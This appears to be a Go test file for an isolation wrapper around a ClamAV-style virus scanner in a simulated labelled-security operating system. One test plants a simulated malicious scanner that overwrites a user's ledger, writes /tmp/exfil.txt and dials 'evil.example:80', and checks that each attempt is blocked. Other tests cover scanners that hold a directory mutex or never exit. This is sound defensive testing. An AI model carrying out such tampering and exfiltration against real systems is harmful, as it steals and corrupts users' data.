package clamav

import (
	"encoding/binary"
	"errors"
	"fmt"
	"strings"
	"testing"
	"time"

	"histar/internal/kernel"
	"histar/internal/label"
	"histar/internal/netd"
	"histar/internal/unixlib"
)

const eicar = `X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*`

func bootClam(t *testing.T) (*unixlib.System, *unixlib.Process) {
	t.Helper()
	sys, err := unixlib.Boot(unixlib.BootOptions{KernelConfig: kernel.Config{Seed: 7}})
	if err != nil {
		t.Fatal(err)
	}
	if err := sys.RegisterProgram(ScannerProgram, Scanner); err != nil {
		t.Fatal(err)
	}
	sys.RegisterProgram("/bin/freshclam", UpdateDaemon)
	bob, err := sys.NewInitProcess("bob")
	if err != nil {
		t.Fatal(err)
	}
	if err := InstallDatabase(bob, DefaultDatabase()); err != nil {
		t.Fatal(err)
	}
	return sys, bob
}

func TestScanBytesAndDatabaseRoundTrip(t *testing.T) {
	db := DefaultDatabase()
	enc := db.Encode()
	parsed, err := ParseDatabase(enc)
	if err != nil {
		t.Fatal(err)
	}
	if len(parsed.Signatures) != len(db.Signatures) {
		t.Fatalf("round trip lost signatures: %d vs %d", len(parsed.Signatures), len(db.Signatures))
	}
	if r := ScanBytes(parsed, "mem", []byte(eicar)); !r.Infected || r.Virus != "Eicar-Test-Signature" {
		t.Errorf("EICAR not detected: %+v", r)
	}
	if r := ScanBytes(parsed, "mem", []byte("perfectly clean data")); r.Infected {
		t.Errorf("false positive: %+v", r)
	}
	if _, err := ParseDatabase([]byte("garbage line without colon")); err == nil {
		t.Error("malformed database should fail to parse")
	}
}

func TestArchiveHelperScanning(t *testing.T) {
	db := DefaultDatabase()
	arc := EncodeArchive([]byte("clean member"), []byte(eicar))
	r := scanWithHelpers(db, "bundle.harc", arc)
	if !r.Infected {
		t.Error("infected archive member not detected")
	}
	clean := EncodeArchive([]byte("a"), []byte("b"))
	if r := scanWithHelpers(db, "c.harc", clean); r.Infected {
		t.Error("clean archive flagged")
	}
}

func TestWrapDetectsVirusAndUntaintsReport(t *testing.T) {
	_, bob := bootClam(t)
	if err := bob.WriteFile("/home/bob/clean.doc", []byte("quarterly numbers"), label.Label{}); err != nil {
		t.Fatal(err)
	}
	if err := bob.WriteFile("/home/bob/evil.exe", []byte("prefix"+eicar+"suffix"), label.Label{}); err != nil {
		t.Fatal(err)
	}
	res, err := Wrap(bob, []string{"/home/bob/clean.doc", "/home/bob/evil.exe"}, WrapOptions{Timeout: 10 * time.Second})
	if err != nil {
		t.Fatal(err)
	}
	if res.ExitStatus != 1 {
		t.Errorf("exit status = %d, want 1 (infections found)", res.ExitStatus)
	}
	if len(res.Infected) != 1 || res.Infected[0] != "/home/bob/evil.exe" {
		t.Errorf("infected = %v", res.Infected)
	}
	if !strings.Contains(res.Report, "/home/bob/clean.doc: OK") {
		t.Errorf("report missing clean file: %q", res.Report)
	}
	// wrap's caller is not tainted in v afterwards (it owns v — that is what
	// lets it untaint the report and hand it back as plain data).
	lbl, _ := bob.TC.SelfLabel()
	if lv := lbl.Get(res.V); lv >= label.L2 {
		t.Errorf("caller should not be tainted in v, got level %v", lv)
	}
	if !lbl.Owns(res.V) {
		t.Error("wrap's caller should own the isolation category")
	}
}

func TestScannerCannotModifyUserFilesOrUntaintedDirs(t *testing.T) {
	sys, bob := bootClam(t)
	if err := bob.WriteFile("/home/bob/ledger.txt", []byte("balance=100"), label.Label{}); err != nil {
		t.Fatal(err)
	}
	// A malicious "scanner": tries to overwrite user data, drop a file in
	// /tmp for the update daemon, and exfiltrate through the network.
	inet, err := netd.New(sys, netd.Options{})
	if err != nil {
		t.Fatal(err)
	}
	inet.RegisterRemote("evil.example:80", func(req []byte) []byte { return []byte("thanks") })
	var (
		overwriteErr error
		tmpErr       error
		dialErr      error
		readOK       bool
	)
	sys.RegisterProgram("/bin/evilscan", func(p *unixlib.Process, args []string) int {
		data, err := p.ReadFile("/home/bob/ledger.txt")
		readOK = err == nil && string(data) == "balance=100"
		overwriteErr = p.WriteFile("/home/bob/ledger.txt", []byte("balance=0"), label.Label{})
		tmpErr = p.WriteFile("/tmp/exfil.txt", data, label.New(label.L1))
		_, dialErr = netd.Dial(inet, p, "evil.example:80")
		// Still write a report so wrap does not hang.
		if len(args) > 0 {
			_ = p.WriteFile(args[len(args)-1], []byte("/home/bob/ledger.txt: OK\n"), label.Label{})
		}
		return 0
	})
	// Run the malicious scanner through wrap by temporarily registering it
	// as the scanner binary path.
	sys.RegisterProgram(ScannerProgram, func(p *unixlib.Process, args []string) int {
		prog, _ := sys.LookupProgram("/bin/evilscan")
		return prog(p, args)
	})
	res, err := Wrap(bob, []string{"/home/bob/ledger.txt"}, WrapOptions{Timeout: 10 * time.Second})
	if err != nil {
		t.Fatal(err)
	}
	_ = res
	if !readOK {
		t.Error("the scanner should be able to READ the user's files")
	}
	if overwriteErr == nil {
		t.Error("the scanner must not modify user files")
	}
	if tmpErr == nil {
		t.Error("the scanner must not create files in the shared /tmp")
	}
	if dialErr == nil {
		t.Error("the scanner must not reach the network")
	}
	// The user's data is intact.
	if data, _ := bob.ReadFile("/home/bob/ledger.txt"); string(data) != "balance=100" {
		t.Errorf("user data was modified: %q", data)
	}
}

func TestUpdateDaemonCannotReadUserData(t *testing.T) {
	sys, bob := bootClam(t)
	if err := bob.WriteFile("/home/bob/taxes.xls", []byte("SSN 123-45-6789"), label.Label{}); err != nil {
		t.Fatal(err)
	}
	// The update daemon runs as its own (non-bob) identity with write access
	// to the database but no ownership of bob's categories.
	updater, err := sys.NewInitProcess("clamav-updater")
	if err != nil {
		t.Fatal(err)
	}
	newDB := Database{Signatures: append(DefaultDatabase().Signatures,
		Signature{Name: "Fresh.Sig", Pattern: []byte("freshly-pushed-pattern")})}
	child, err := updater.Spawn("/bin/freshclam", []string{string(newDB.Encode())})
	if err != nil {
		t.Fatal(err)
	}
	if status, _ := updater.Wait(child); status != 0 {
		t.Fatalf("update daemon exit status %d", status)
	}
	// The update took effect...
	db := LoadDatabase(updater)
	found := false
	for _, s := range db.Signatures {
		if s.Name == "Fresh.Sig" {
			found = true
		}
	}
	if !found {
		t.Error("database update did not take effect")
	}
	// ...but the updater cannot read bob's files.
	if _, err := updater.ReadFile("/home/bob/taxes.xls"); err == nil {
		t.Error("update daemon must not read user data")
	}
}

// lockDir takes the mutex of the directory at path and never releases it, as
// any thread that can write a directory can: the mutex is the first word of
// the directory's segment, whose ID the directory container's metadata holds.
func lockDir(p *unixlib.Process, path string) bool {
	fi, err := p.Stat(path)
	if err != nil {
		return false
	}
	st, err := p.TC.ObjectStat(kernel.Self(fi.ID))
	if err != nil {
		return false
	}
	seg := kernel.CEnt{Container: fi.ID, Object: kernel.ID(binary.LittleEndian.Uint64(st.Metadata[:8]))}
	ok, err := p.TC.SegmentCompareSwap(seg, 0, 0, 1)
	return err == nil && ok
}

// wrapWithin runs Wrap and fails the test if it has not returned in 20 s.
func wrapWithin(t *testing.T, bob *unixlib.Process, files []string, opts WrapOptions) (*WrapResult, error) {
	t.Helper()
	type result struct {
		res *WrapResult
		err error
	}
	done := make(chan result, 1)
	go func() {
		res, err := Wrap(bob, files, opts)
		done <- result{res, err}
	}()
	select {
	case r := <-done:
		return r.res, r.err
	case <-time.After(20 * time.Second):
		t.Fatal("Wrap has not returned after 20 s")
		return nil, nil
	}
}

// TestWrapSurvivesScannerHoldingScratchMutex runs a scanner that writes its
// report, takes its scratch directory's mutex for good and exits normally.
// A reader of a directory sleeps while its mutex is held, so wrap must read
// the report, and clean up, without reading the scratch directory.
func TestWrapSurvivesScannerHoldingScratchMutex(t *testing.T) {
	sys, bob := bootClam(t)
	scratch := fmt.Sprintf("/tmp/wrap-%d", bob.PID)
	locked := false
	sys.RegisterProgram(ScannerProgram, func(p *unixlib.Process, args []string) int {
		if err := p.WriteFile(args[len(args)-1], []byte("/home/bob/x: OK (0 bytes)\n"), label.Label{}); err != nil {
			return 2
		}
		locked = lockDir(p, scratch)
		return 0
	})
	res, err := wrapWithin(t, bob, []string{"/home/bob/x"}, WrapOptions{Timeout: 10 * time.Second})
	if !locked {
		t.Fatal("the scanner could not take its scratch directory's mutex")
	}
	if err != nil {
		t.Fatal(err)
	}
	if res.Report != "/home/bob/x: OK (0 bytes)\n" {
		t.Errorf("report = %q", res.Report)
	}
	if _, err := bob.Stat(scratch); !errors.Is(err, unixlib.ErrNotExist) {
		t.Errorf("Stat(scratch) after wrap = %v, want ErrNotExist", err)
	}
}

// TestWrapTimeoutKillsScanner runs a scanner that takes its scratch
// directory's mutex and never terminates: wrap must halt it at the deadline
// and still clean up.
func TestWrapTimeoutKillsScanner(t *testing.T) {
	sys, bob := bootClam(t)
	scratch := fmt.Sprintf("/tmp/wrap-%d", bob.PID)
	sys.RegisterProgram(ScannerProgram, func(p *unixlib.Process, args []string) int {
		lockDir(p, scratch)
		// A scanner that never terminates (e.g. leaking via timing).
		for i := 0; ; i++ {
			time.Sleep(10 * time.Millisecond)
			if i > 10000 {
				return 0
			}
		}
	})
	_, err := wrapWithin(t, bob, []string{"/home/bob/nothing"}, WrapOptions{Timeout: 200 * time.Millisecond})
	if err != ErrScannerTimeout {
		t.Errorf("expected timeout, got %v", err)
	}
	if _, err := bob.Stat(scratch); !errors.Is(err, unixlib.ErrNotExist) {
		t.Errorf("Stat(scratch) after wrap = %v, want ErrNotExist", err)
	}
}

// TestWrapReportOutgrowsFreshQuota has the scanner write a report larger than
// a fresh file's quota: the report's quota comes from /tmp, which the
// scanner cannot modify, so wrap must have moved the room in beforehand.
func TestWrapReportOutgrowsFreshQuota(t *testing.T) {
	sys, bob := bootClam(t)
	big := strings.Repeat("/home/bob/x: OK (0 bytes)\n", 4096) // 104 KiB
	sys.RegisterProgram(ScannerProgram, func(p *unixlib.Process, args []string) int {
		if err := p.WriteFile(args[len(args)-1], []byte(big), label.Label{}); err != nil {
			return 2
		}
		return 0
	})
	res, err := wrapWithin(t, bob, []string{"/home/bob/x"}, WrapOptions{Timeout: 10 * time.Second})
	if err != nil {
		t.Fatal(err)
	}
	if res.ExitStatus != 0 || res.Report != big {
		t.Errorf("exit status %d, report of %d bytes; want 0 and %d bytes", res.ExitStatus, len(res.Report), len(big))
	}
}
